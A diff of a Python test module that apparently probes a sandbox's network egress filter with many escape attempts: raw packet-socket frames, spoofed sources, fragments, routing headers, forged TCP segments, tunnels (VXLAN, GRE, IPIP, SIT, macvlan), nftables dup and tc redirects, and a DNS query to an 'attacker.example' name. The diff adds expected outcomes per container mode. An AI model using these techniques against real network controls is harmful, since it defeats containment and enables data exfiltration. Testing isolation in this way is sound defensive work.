@@ -14,7 +14,7 @@ import time
 import craft
 import raw
 from kernel import PACKET_QDISC_BYPASS, SOL_PACKET, checked, libc, setns, tun, unshare, CLONE_NEWNET
-from table import Unavailable, attack, packed
+from table import BRIDGE, JOINED, ROUTED, Unavailable, at_uplink, attack, ends, held, packed
 
 PACKET = "packet sockets"
 TUNNEL = "devices and tunnels of the attacker's own"
@@ -47,31 +47,34 @@ def tool(*argv):
         raise Unavailable(f"{' '.join(argv[:4])}: {said}")
 
 
-@attack(PACKET, "a frame from a packet socket", "uplink", "packet-socket")
+@attack(PACKET, "a frame from a packet socket", "uplink", "packet-socket", container=at_uplink("forwarded"))
 def packet_raw(t):
     packet_socket().send(ether(t, datagram(t)))
 
 
-@attack(PACKET, "a packet from a packet socket of type SOCK_DGRAM", "uplink", "packet-socket")
+@attack(PACKET, "a packet from a packet socket of type SOCK_DGRAM", "uplink", "packet-socket",
+        container=at_uplink("forwarded"))
 def packet_dgram(t):
     s = packet_socket(kind=socket.SOCK_DGRAM)
     s.sendto(datagram(t), ("eth0", ETHERTYPE[t.family], 0, 0, t.router_mac))
 
 
-@attack(PACKET, "a frame that skips the queueing layer (PACKET_QDISC_BYPASS)", "lsm", "packet-socket")
+@attack(PACKET, "a frame that skips the queueing layer (PACKET_QDISC_BYPASS)", "lsm", "packet-socket",
+        container=at_uplink("forwarded"))
 def packet_bypass(t):
     s = packet_socket()
     s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
     s.send(ether(t, datagram(t)))
 
 
-@attack(PACKET, "a frame with a source that is not ours", "uplink", "packet-socket")
+@attack(PACKET, "a frame with a source that is not ours", "uplink", "packet-socket", container=at_uplink("forwarded"))
 def packet_spoofed(t):
     source = "203.0.113.10" if t.family == 4 else "2001:db8:10::10"
     packet_socket().send(ether(t, craft.ip(source, t.to, craft.UDP, craft.udp(source, t.to, 1, 2, t.marker))))
 
 
-@attack(PACKET, "fragments: first, later, overlapping, tiny", "uplink", "packet-socket")
+@attack(PACKET, "fragments: first, later, overlapping, tiny", "uplink", "packet-socket",
+        container=at_uplink("packet-malformed"))
 def packet_fragments(t):
     s = packet_socket()
     for make in (raw.old_fragment_first, raw.old_fragment_later, raw.old_fragment_overlapping, raw.old_fragment_tiny):
@@ -79,14 +82,16 @@ def packet_fragments(t):
             s.send(ether(t, p))
 
 
-@attack(PACKET, "a source route or routing header", "uplink", "packet-socket")
+@attack(PACKET, "a source route or routing header", "uplink", "packet-socket",
+        container={4: ends(ROUTED), 6: at_uplink("source-route")})
 def packet_routed(t):
     s = packet_socket()
     for p in (raw.old_source_route if t.family == 4 else raw.old_routing_header).packets(t):
         s.send(ether(t, p))
 
 
-@attack(PACKET, "a segment as if of a connection to an allowed address", "uplink", "packet-socket")
+@attack(PACKET, "a segment as if of a connection to an allowed address", "uplink", "packet-socket",
+        container=held("tls-incomplete"))
 def packet_forged(t):
     """With the addresses and ports of a connection that is really there."""
     c = t.connected(t.allowed, 443)
@@ -94,36 +99,39 @@ def packet_forged(t):
     packet_socket().send(ether(t, craft.ip(t.source, t.allowed, craft.TCP, segment)))
 
 
-@attack(PACKET, "a DNS query for a name of the attacker's", "uplink", "packet-socket", families=(4,))
+@attack(PACKET, "a DNS query for a name of the attacker's", "uplink", "packet-socket", families=(4,),
+        container=at_uplink("dns-name-not-allowed"))
 def packet_dns(t):
     data = craft.udp(t.source, t.resolver, 4444, 53, craft.query(t.label + ".attacker.example"))
     packet_socket().send(ether(t, craft.ip4(t.source, t.resolver, craft.UDP, data)))
 
 
-@attack(PACKET, "a neighbour solicitation as from a neighbour of the attacker", "uplink", "packet-socket", families=(6,))
+@attack(PACKET, "a neighbour solicitation as from a neighbour of the attacker", "uplink", "packet-socket", families=(6,),
+        container=at_uplink("forwarded"))
 def packet_solicitation(t):
     source = t.to.rsplit(":", 1)[0] + ":1"
     message = craft.icmp6(source, t.to, 135, bytes(4) + t.marker * 2)
     packet_socket().send(ether(t, craft.ip6(source, t.to, craft.ICMP6, message, hops=255)))
 
 
-@attack(PACKET, "a VLAN tag before the packet", "uplink", "packet-socket", families=(4,))
+@attack(PACKET, "a VLAN tag before the packet", "uplink", "packet-socket", families=(4,), container=ends(BRIDGE))
 def packet_vlan(t):
     packet_socket().send(ether(t, struct.pack("!HH", 7, 0x0800) + datagram(t), 0x8100))
 
 
-@attack(PACKET, "a frame of an unknown ethertype", "uplink", "packet-socket", families=(4,))
+@attack(PACKET, "a frame of an unknown ethertype", "uplink", "packet-socket", families=(4,), container=ends(BRIDGE))
 def packet_ethertype(t):
     packet_socket().send(ether(t, t.marker * 8, 0x88B6))
 
 
-@attack(PACKET, "an ARP request for the data's address", "uplink", "packet-socket", families=(4,))
+@attack(PACKET, "an ARP request for the data's address", "uplink", "packet-socket", families=(4,),
+        container=ends(BRIDGE))
 def packet_arp(t):
     body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + b"\2oh\0\0\1" + t.marker[:4] + bytes(6) + t.marker[4:]
     packet_socket().send(ether(t, body + t.marker * 2, 0x0806))
 
 
-@attack(PACKET, "an AF_XDP socket in copy mode", "lsm", "packet-socket")
+@attack(PACKET, "an AF_XDP socket in copy mode", "lsm", "packet-socket", container=at_uplink("forwarded"))
 def packet_xdp(t):
     frame = ether(t, datagram(t))
     s = socket.socket(44, socket.SOCK_RAW, 0)
@@ -164,7 +172,8 @@ def tun_forwarded(t):
     os.write(fd, craft.ip(source, t.to, craft.UDP, craft.udp(source, t.to, 1, t.port, t.marker)))
 
 
-@attack(TUNNEL, "a VXLAN device towards the attacker", "uplink", "packet-socket", **ADMIN)
+@attack(TUNNEL, "a VXLAN device towards the attacker", "uplink", "packet-socket",
+        container=at_uplink("forwarded"), **ADMIN)
 def vxlan(t):
     tool("ip", "link", "add", "ohv", "type", "vxlan", "id", "7", "remote", t.to, "dstport", "4789", "dev", "eth0")
     try:
@@ -184,17 +193,20 @@ def tunnel(kind, t, *args):
         tool("ip", "link", "del", "oht")
 
 
-@attack(TUNNEL, "an IP-in-IP device towards the attacker", "uplink", "packet-socket", **ADMIN)
+@attack(TUNNEL, "an IP-in-IP device towards the attacker", "uplink", "packet-socket",
+        container=at_uplink("forwarded"), **ADMIN)
 def ipip(t):
     tunnel("ipip" if t.family == 4 else "ip6tnl", t, "remote", t.to, "local", t.source)
 
 
-@attack(TUNNEL, "a GRE device towards the attacker", "uplink", "packet-socket", **ADMIN)
+@attack(TUNNEL, "a GRE device towards the attacker", "uplink", "packet-socket",
+        container=at_uplink("forwarded"), **ADMIN)
 def gre(t):
     tunnel("gre" if t.family == 4 else "ip6gre", t, "remote", t.to, "local", t.source)
 
 
-@attack(TUNNEL, "a SIT device towards the attacker", "uplink", "packet-socket", families=(4,), **ADMIN)
+@attack(TUNNEL, "a SIT device towards the attacker", "uplink", "packet-socket", families=(4,),
+        container=at_uplink("forwarded"), **ADMIN)
 def sit(t):
     tunnel("sit", t, "remote", t.to, "local", t.source)
 
@@ -206,7 +218,8 @@ def wireguard(t):
     raise Unavailable("no tool here sets a peer")
 
 
-@attack(TUNNEL, "a packet socket on a macvlan device above the uplink", "uplink", "packet-socket", families=(4,), **ADMIN)
+@attack(TUNNEL, "a packet socket on a macvlan device above the uplink", "uplink", "packet-socket", families=(4,),
+        container=at_uplink("forwarded"), **ADMIN)
 def macvlan(t):
     tool("ip", "link", "add", "ohm", "link", "eth0", "type", "macvlan", "mode", "bridge")
     try:
@@ -250,7 +263,8 @@ def other_namespace(t):
     t.socket(socket.SOCK_STREAM, timeout=0.2).connect((t.to, t.port))
 
 
-@attack(TUNNEL, "a copy that nftables sends on its own (dup)", "uplink", "protocol-not-allowed", families=(4,), **ADMIN)
+@attack(TUNNEL, "a copy that nftables sends on its own (dup)", "uplink", "protocol-not-allowed", families=(4,),
+        container=ends("the host's kernel takes no loopback address from a bridge"), **ADMIN)
 def nft_dup(t):
     rule = f"table ip oh {{ chain o {{ type filter hook output priority 0; ip daddr 127.0.0.9 udp dport 9 dup to {t.router} device eth0; }} }}"
     nft(rule, lambda: t.socket().sendto(t.marker, ("127.0.0.9", 9)))
@@ -272,7 +286,8 @@ def nft(rule, act):
         tool("nft", "delete", "table", "ip", "oh")
 
 
-@attack(TUNNEL, "what loopback carries, redirected to the uplink by tc", "uplink", "forwarded", families=(4,), **ADMIN)
+@attack(TUNNEL, "what loopback carries, redirected to the uplink by tc", "uplink", "forwarded", families=(4,),
+        container=ends(BRIDGE), **ADMIN)
 def tc_from_loopback(t):
     tool("tc", "qdisc", "add", "dev", "lo", "clsact")
     try:
@@ -333,7 +348,7 @@ def box_dns(t):
     packet_socket().send(ether(t, craft.ip4(t.source, t.resolver, craft.UDP, data)))
 
 
-@attack(BOX, "forwarded fragments", "uplink", "fragment", where="box")
+@attack(BOX, "forwarded fragments", "uplink", "fragment", where="box", container=ends(JOINED))
 def box_fragments(t):
     s = packet_socket()
     for p in raw.old_fragment_overlapping.packets(t):
